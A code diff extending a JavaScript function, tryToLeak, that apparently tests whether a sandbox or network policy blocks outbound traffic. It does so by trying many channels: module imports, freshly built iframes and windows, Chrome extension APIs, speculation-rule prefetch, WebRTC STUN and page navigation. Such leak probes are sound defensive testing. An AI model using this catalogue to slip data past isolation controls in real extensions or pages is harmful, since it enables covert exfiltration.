@@ -31,6 +31,8 @@ async function tryToLeak(to, stun) {
         },
         'import-scripts': () => importScripts(http('import-scripts')),
         import: () => import(http('import')),
+        'import-json': () => import(http('import-json'), { with: { type: 'json' } }),
+        'import-css': () => import(http('import-css'), { with: { type: 'css' } }),
         worker: () => new Worker(http('worker')),
         'shared-worker': () => new SharedWorker(http('shared-worker')),
         'blob-worker': async () => {
@@ -46,6 +48,8 @@ async function tryToLeak(to, stun) {
             await new Promise(() => undefined);
         },
         ...elementWays(),
+        ...frameWays(),
+        ...extensionWays(),
     };
     function elementWays() {
         if (!globalThis.document) return {};
@@ -77,9 +81,84 @@ async function tryToLeak(to, stun) {
             },
         };
     }
+    /** A document of its own has all that was taken from this one. */
+    function frameWays() {
+        if (!globalThis.document) return {};
+        const xhtml = 'http://www.w3.org/1999/xhtml';
+        const made = {
+            made: () => document.createElement('iframe'),
+            named: () => document.createElementNS(xhtml, 'x:iframe'),
+            root: () => document.implementation.createDocument(xhtml, 'iframe').documentElement,
+            other: () => document.implementation.createHTMLDocument().createElement('iframe'),
+            parsed: () => {
+                const box = document.createElement('div');
+                box.innerHTML = '<iframe></iframe>';
+                return box.firstChild;
+            },
+            document: () =>
+                new DOMParser().parseFromString('<iframe></iframe>', 'text/html').querySelector('iframe'),
+            fragment: () =>
+                document.createRange().createContextualFragment('<iframe></iframe>').firstChild,
+            custom: () => {
+                class Frame extends HTMLIFrameElement {}
+                customElements.define('leaky-frame', Frame, { extends: 'iframe' });
+                return new Frame();
+            },
+            read: async () => {
+                const request = new XMLHttpRequest();
+                request.open('GET', 'data:text/html,<iframe></iframe>');
+                request.responseType = 'document';
+                const loaded = new Promise((resolve) => Object.assign(request, { onload: resolve }));
+                request.send();
+                await loaded;
+                return request.response.querySelector('iframe');
+            },
+        };
+        const leakIn = (way, inner) => {
+            const image = new inner.Image();
+            image.src = http(`frame-${way}`);
+            inner.fetch(http(`frame-${way}`));
+            const peer = new inner.RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}` }] });
+            peer.createDataChannel('leak');
+            return peer.setLocalDescription();
+        };
+        const frames = Object.entries(made).map(([way, make]) => [
+            `frame-${way}`,
+            async () => {
+                const frame = await make();
+                document.body.append(document.adoptNode(frame));
+                return leakIn(way, frame.contentWindow);
+            },
+        ]);
+        const windows = {
+            'window-opened': () => leakIn('opened', open('about:blank')),
+            'window-document': () => leakIn('document', document.open('about:blank', 'leak', '')),
+            'window-picture': async () =>
+                leakIn('picture', await documentPictureInPicture.requestWindow()),
+            'window-views': () =>
+                Promise.all(chrome.extension.getViews().map((view) => leakIn('view', view))),
+        };
+        return { ...Object.fromEntries(frames), ...windows };
+    }
+    function extensionWays() {
+        if (!globalThis.chrome?.runtime) return {};
+        return {
+            download: () => chrome.downloads.download({ url: http('download') }),
+            tab: () => chrome.tabs.create({ url: http('tab'), active: false }),
+            window: () => chrome.windows.create({ url: http('window'), focused: false }),
+            speculation: () => {
+                const rules = { prefetch: [{ urls: [http('speculation')], eagerness: 'immediate' }] };
+                const script = document.createElement('script');
+                Object.assign(script, { type: 'speculationrules', textContent: JSON.stringify(rules) });
+                document.body.append(script);
+            },
+        };
+    }
     const attempt = async (way) => way();
     const patience = new Promise((resolve) => setTimeout(resolve, 3000));
     // Most that get out get no answer.
     await Promise.race([Promise.allSettled(Object.values(ways).map(attempt)), patience]);
+    // At last, since it may end this context.
+    if (globalThis.document) location.assign(http('navigation'));
     return Object.keys(ways);
 }
